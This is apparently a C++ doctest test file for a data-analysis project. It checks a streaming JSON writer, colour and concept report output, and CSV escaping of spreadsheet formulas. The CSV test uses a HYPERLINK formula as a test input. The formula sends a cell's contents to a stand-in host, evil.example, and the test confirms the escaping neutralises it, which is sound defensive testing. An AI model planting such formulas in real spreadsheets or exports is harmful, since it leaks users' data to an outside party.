#include <doctest/doctest.h>

#include <sstream>
#include <stdexcept>
#include <string>

#include "io/csv_writer.hpp"
#include "report/color_report.hpp"
#include "report/concept_report.hpp"
#include "report/json_writer.hpp"
#include "support.hpp"

using namespace shoal;

namespace {

// The text a tree of the same value gives: what reports were before they
// were written piece by piece, and must stay byte for byte.
std::string as_tree(const std::string& text) { return nlohmann::json::parse(text).dump(1) + "\n"; }

}  // namespace

TEST_CASE("JSON writer: the same bytes as a dumped tree") {
  const nlohmann::json tree = nlohmann::json::parse(R"({
    "a": [], "b": {}, "c": [1, -0.0, 2.5e-300, "x\ny\u00e9\"", null, true, {"k": [[], [{}], {"z": 1}]}],
    "d": {"e": {"f": [1.0, 18446744073709551615, -9223372036854775808]}}, "é": "last"})");
  std::string text;
  JsonWriter out(text);
  out.begin_object();
  out.key("a");
  out.begin_array();
  out.end();
  out.key("b");
  out.begin_object();
  out.end();
  out.key("c");
  out.begin_array();
  for (std::size_t i = 0; i + 1 < tree["c"].size(); ++i) out.value(tree["c"][i]);
  out.begin_object();
  out.key("k");
  out.value(tree["c"][6]["k"]);
  out.end();
  out.end();
  out.key("d");
  out.value(tree["d"]);
  out.key("é");
  out.value("last");
  out.end();
  CHECK(text == tree.dump(1));

  // Streamed members go where a tree would sort them, around held ones.
  std::ostringstream stream;
  JsonWriter merged(stream);
  write_object(merged, {{"b", 2}, {"d", 4}},
               {{"e", [](JsonWriter& w) { w.value(5); }},
                {"a", [](JsonWriter& w) { w.value(1); }},
                {"c", [](JsonWriter& w) {
                   w.begin_array();
                   w.value(3);
                   w.end();
                 }}});
  CHECK(stream.str() == nlohmann::json({{"a", 1}, {"b", 2}, {"c", {3}}, {"d", 4}, {"e", 5}}).dump(1));

  // Counting writes nothing and counts every byte.
  std::size_t bytes = 0;
  JsonWriter counter(bytes);
  counter.begin_array();
  counter.value(tree);
  counter.end();
  CHECK(bytes == nlohmann::json::array({tree}).dump(1).size());
}

TEST_CASE("JSON writer: keys out of the tree's order are refused, not written") {
  std::string text;
  JsonWriter out(text);
  out.begin_object();
  out.key("b");
  out.value(1);
  CHECK_THROWS_AS(out.key("a"), std::logic_error);
  CHECK_THROWS_AS(out.key("b"), std::logic_error);
  std::string other;
  JsonWriter twice(other);
  CHECK_THROWS_AS(write_object(twice, {{"a", 1}}, {{"a", [](JsonWriter& w) { w.value(2); }}}), std::logic_error);
}

TEST_CASE("colour report text: the tree's bytes, on the paper's human file") {
  const ColorDataset dataset = load_color_inputs({test::shared_input("paper-data/color-task/colorref.csv")}, {ColorInputOptions{}});
  ColorOptions options;
  options.jsd_samples = 100;
  const ColorAnalysis analysis = analyse_color(dataset, options);
  const ComparisonResult comparisons = compare_color(analysis, {20, options.seed});
  const std::string text = color_report_text(dataset, {ColorInputOptions{}}, analysis, comparisons);
  CHECK(text.size() > 100000);
  CHECK(text == as_tree(text));
  std::ostringstream stream;
  write_color_report(stream, dataset, {ColorInputOptions{}}, analysis, comparisons);
  CHECK(stream.str() == text);
}

TEST_CASE("concept report text: the tree's bytes, on two of the paper's model files with traces") {
  const ConceptDataset dataset = load_concept_inputs(
      {test::shared_input("paper-data/concept-task/llm-responses/gemma-instruct-prompt=none-temp=default.csv"),
       test::shared_input("paper-data/concept-task/llm-responses/tulu-prompt=none-temp=1.5.csv")},
      {ConceptInputOptions{}});
  ConceptOptions options;
  options.iterations = 6;
  options.burn_in = 2;
  options.keep_traces = true;
  const ConceptAnalysis analysis = analyse_concepts(dataset, options);
  const ComparisonResult comparisons = compare_concepts(analysis, {10, options.seed});
  const std::string text = concept_report_text(dataset, {ConceptInputOptions{}}, analysis, comparisons);
  CHECK(text.size() > 100000);
  CHECK(text == as_tree(text));
  std::ostringstream stream;
  write_concept_report(stream, dataset, {ConceptInputOptions{}}, analysis, comparisons);
  CHECK(stream.str() == text);
}

TEST_CASE("CSV cells that a spreadsheet would run as a formula get a leading apostrophe; numbers stay numbers") {
  CHECK(spreadsheet_safe("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")") ==
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
  CHECK(spreadsheet_safe("+cmd") == "'+cmd");
  CHECK(spreadsheet_safe("-2+3") == "'-2+3");
  CHECK(spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)");
  CHECK(spreadsheet_safe("\t=1") == "'\t=1");
  CHECK(spreadsheet_safe("\r=1") == "'\r=1");
  CHECK(spreadsheet_safe("- a robin") == "'- a robin");
  CHECK(spreadsheet_safe("-") == "'-");
  CHECK(spreadsheet_safe("-e5") == "'-e5");
  CHECK(spreadsheet_safe("-1e") == "'-1e");
  for (const std::string number : {"-0.12", "+3", "-1e-5", "-.5", "+2.", "-1E+10", "0.5", "12"}) {
    CHECK(spreadsheet_safe(number) == number);
  }
  CHECK(spreadsheet_safe("a=b") == "a=b");
  CHECK(spreadsheet_safe("") == "");

  CsvWriter csv;
  csv.row({"=1+1", "-0.25", "@x,y"});
  CHECK(csv.text() == "'=1+1,-0.25,\"'@x,y\"\n");
}
